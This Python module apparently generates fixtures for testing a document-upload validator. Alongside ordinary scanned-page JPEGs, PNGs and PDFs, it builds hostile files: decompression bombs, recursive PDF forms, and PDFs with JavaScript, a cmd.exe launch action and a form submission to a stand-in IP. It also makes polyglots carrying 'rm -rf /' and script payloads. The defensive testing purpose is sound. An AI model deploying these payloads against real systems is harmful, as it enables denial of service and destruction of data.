"""What a scanner, a telephone and somebody with bad intentions put into a file."""

import io
import random
import struct
import time
import zlib
from collections.abc import Iterator

from PIL import Image, ImageDraw

#: A page at 100 dots an inch.
A4 = (827, 1169)


def paper(text: str = "Certificat", size: tuple[int, int] = A4, mode: str = "L") -> Image.Image:
    page = Image.new(mode, size, "white")
    pen = ImageDraw.Draw(page)
    for line in range(12):
        pen.text((60, 80 + line * 70), f"{text} {line}", fill="black", font_size=36)
    return page


def jpeg(text: str = "Certificat", **how) -> bytes:
    out = io.BytesIO()
    paper(text, **how).save(out, "JPEG", quality=70)
    return out.getvalue()


def png(text: str = "Certificat", **how) -> bytes:
    out = io.BytesIO()
    paper(text, **how).save(out, "PNG")
    return out.getvalue()


def pdf(*pages: Image.Image | str) -> bytes:
    """As a scanner makes one: a picture a page."""
    out = io.BytesIO()
    first, *rest = [paper(page) if isinstance(page, str) else page for page in pages]
    then = time.gmtime(1_772_449_200)
    first.save(out, "PDF", resolution=100, save_all=True, append_images=rest, creationDate=then, modDate=then)
    return out.getvalue()


def written(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of places."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def one_page(
    *, root: bytes = b"", page: bytes = b"", content: bytes = b"0 0 m 100 100 l S", more: tuple[bytes, ...] = ()
) -> bytes:
    """A PDF of one drawn page, with what is wanted in its root or its page."""
    return written(
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % root,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %b >>" % page,
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(content), content),
        *more,
    )


def packed_stream(content: bytes, head: bytes = b"") -> bytes:
    small = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(small), head, small)


def png_of(width: int, height: int, body: bytes = b"", kind: int = 0) -> bytes:
    """A PNG that says it is so large, with this for its picture."""
    head = struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*each) for each in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b"")))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


# --- bad intentions ------------------------------------------------------------------------------


def bomb_png(chance: random.Random) -> bytes:
    """A few kilobytes that say they are a picture of a thousand million points, and nearly are."""
    side = chance.choice((20_000, 40_000, 65_000))
    return png_of(side, side, zlib.compress(bytes(4_000_000), 9))


def bomb_pixels(chance: random.Random) -> bytes:
    """Just under the limit, in colours: all of it has to be unpacked."""
    width = chance.randrange(6_000, 7_500)
    return png_of(width, 59_000_000 // width, zlib.compress(bytes((width * 4 + 1) * (59_000_000 // width)), 9), kind=6)


def bomb_text_png(chance: random.Random) -> bytes:
    """A picture of one point with words that unpack to two hundred megabytes."""
    small = png_of(1, 1, zlib.compress(b"\0\0"))
    words = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(chance.choice((50, 200)) * 1_000_000), 9))
    return small[:33] + words + small[33:]


def bomb_pdf(chance: random.Random) -> bytes:
    """A page whose drawing unpacks to hundreds of megabytes, packed once or twice."""
    content = b"0 0 m 9 9 l S " * chance.choice((2_000_000, 8_000_000))
    if chance.random() < 0.5:
        return one_page(content=b"q Q", more=()).replace(
            b"<< /Length 3 >>\nstream\nq Q\nendstream", packed_stream(content)
        )
    twice = zlib.compress(zlib.compress(content, 9), 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%b\nendstream" % (len(twice), twice)
    return one_page(content=b"q Q").replace(b"<< /Length 3 >>\nstream\nq Q\nendstream", stream)


def bomb_objects(chance: random.Random) -> bytes:
    """A packed list of objects that unpacks to more than anybody looks through."""
    return one_page(more=(packed_stream(b"1 0 " * chance.choice((5, 15)) * 1_000_000, b"/Type /ObjStm /N 1 /First 4"),))


def bomb_picture_in_pdf(chance: random.Random) -> bytes:
    side = chance.choice((20_000, 50_000))
    picture = packed_stream(
        bytes(30_000_000),
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8"
        % (side, side),
    )
    return one_page(
        page=b"/Resources << /XObject << /I 5 0 R >> >>", content=b"595 0 0 842 0 0 cm /I Do", more=(picture,)
    )


def nested_forms(chance: random.Random) -> bytes:
    """A drawing that draws another ten times, which does the same: a thousand million million."""
    depth = chance.choice((12, 18))
    forms = []
    for level in range(depth):
        following = b"/F %d 0 R" % (6 + level) if level + 1 < depth else b""
        content = b"/F Do " * 10 if following else b"0 0 m 100 100 l S"
        forms.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << %b >> >> /Length %d >>\n"
            b"stream\n%b\nendstream" % (following, len(content), content)
        )
    return one_page(page=b"/Resources << /XObject << /F 5 0 R >> >>", content=b"/F Do", more=tuple(forms))


def eats_itself(chance: random.Random) -> bytes:
    """Pages that are their own parents and children, forms that draw themselves."""
    which = chance.randrange(3)
    if which == 0:
        return written(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
    if which == 1:
        return one_page(root=b"/Outlines 1 0 R /Names 1 0 R", page=b"/Parent 3 0 R /Resources 3 0 R")
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >> /Length 5"
    form = b"<< %b >>\nstream\n/F Do\nendstream" % head
    return one_page(page=b"/Resources << /XObject << /F 5 0 R >> >>", content=b"/F Do", more=(form,))


def huge_page(chance: random.Random) -> bytes:
    edge = chance.choice((b"1e9", b"99999999", b"-5", b"0", b"NaN"))
    return one_page().replace(b"[0 0 595 842]", b"[0 0 %b %b]" % (edge, edge))


def many_pages(chance: random.Random) -> bytes:
    number = chance.choice((201, 5_000))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    kids = b" ".join(b"%d 0 R" % (3 + each) for each in range(number))
    return written(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, number),
        *[page] * number,
    )


def acts(chance: random.Random) -> bytes:
    """A PDF that would run something: said plainly, spelt with escapes, or hidden in a packed list of objects."""
    action = chance.choice((
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/AA << /WC << /S /J#61vaScript /JS (x) >> >>", b"/Names << /EmbeddedFiles 5 0 R >>",
        b"/OpenAction << /S /SubmitForm /F (http://203.0.113.9/) >>", b"/AcroForm << /XFA [(a) 5 0 R] >>",
    ))  # fmt: skip
    if chance.random() < 0.3:
        return one_page(more=(packed_stream(b"9 0 << %b >>" % action, b"/Type /ObjStm /N 1 /First 4"),))
    return one_page(root=action)


def locked(chance: random.Random) -> bytes:
    return one_page().replace(
        b"trailer <<", b"trailer << /Encrypt << /Filter /Standard /V %d >>" % chance.choice((1, 5))
    )


def polyglot(chance: random.Random) -> bytes:
    """One thing in front and another behind."""
    behind = chance.choice((
        b"PK\x03\x04" + b"word/vbaProject.bin" * 20, b"<html><script>alert(1)</script></html>",
        b"#!/bin/sh\nrm -rf /\n", b"%PDF-1.4\n1 0 obj << /JS (x) >>", b"GIF89a" + bytes(100), b"MZ" + bytes(200),
    ))  # fmt: skip
    return chance.choice((jpeg(), png(), pdf("a"))) + behind


def other_kind(chance: random.Random) -> bytes:
    """What is not taken at all, whatever it is called."""
    return chance.choice((
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<!doctype html><script>1</script>",
        b"PK\x03\x04[Content_Types].xml", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macros", b"GIF89a", b"II*\0", b"BM",
        b"", b"\0" * 64, b"%!PS-Adobe-3.0", b" %PDF-1.4", b"RIFF....WEBP", b"\x7fELF",
    ))  # fmt: skip


def cut_short(chance: random.Random) -> bytes:
    whole = chance.choice((jpeg(), png(), pdf("a", "b")))
    return whole[: chance.randrange(4, len(whole) - 8)]


def bent(chance: random.Random) -> bytes:
    """A good file of which some bytes are others."""
    whole = bytearray(chance.choice((jpeg(), png(), pdf("a", "b"), one_page())))
    for _ in range(chance.choice((1, 8, 64, 512))):
        whole[chance.randrange(8, len(whole))] = chance.randrange(256)
    return bytes(whole)


def lying_numbers(chance: random.Random) -> bytes:
    """Lengths, counts and places that are not so."""
    what = chance.choice((
        (b"/Count 1", b"/Count 4000000000"), (b"/Length 17", b"/Length 999999999"), (b"/Count 1", b"/Count -7"),
        (b"startxref\n", b"startxref\n9"), (b"/Size 5", b"/Size 2147483647"), (b"3 0 R", b"3000000 0 R"),
    ))  # fmt: skip
    return one_page().replace(*what)


def deep(chance: random.Random) -> bytes:
    """Brackets in brackets, far deeper than anybody counts."""
    level = chance.choice((5_000, 200_000))
    return one_page(root=b"/X " + b"[" * level + b"]" * level)


def noise(chance: random.Random) -> bytes:
    head = chance.choice((b"%PDF-1.7\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n"))
    return head + chance.randbytes(chance.choice((10, 2_000, 300_000))) + chance.choice((b"%%EOF", b"\xff\xd9", b""))


def too_large(chance: random.Random) -> bytes:
    return chance.choice((b"%PDF-1.7\n", b"\xff\xd8\xff\xe0")) + bytes(10 * 1024 * 1024)


KINDS = (
    bomb_png, bomb_pixels, bomb_text_png, bomb_pdf, bomb_objects, bomb_picture_in_pdf, nested_forms, eats_itself,
    huge_page, many_pages, acts, locked, polyglot, other_kind, cut_short, cut_short, bent, bent, lying_numbers, deep,
    noise, too_large,
)  # fmt: skip


def hostile(number: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
    """So many hostile files, each kind in turn; the same ones for the same seed."""
    for place in range(number):
        kind = KINDS[place % len(KINDS)]
        yield kind.__name__, kind(random.Random(seed * 100_003 + place))  # noqa: S311 (repeatable)
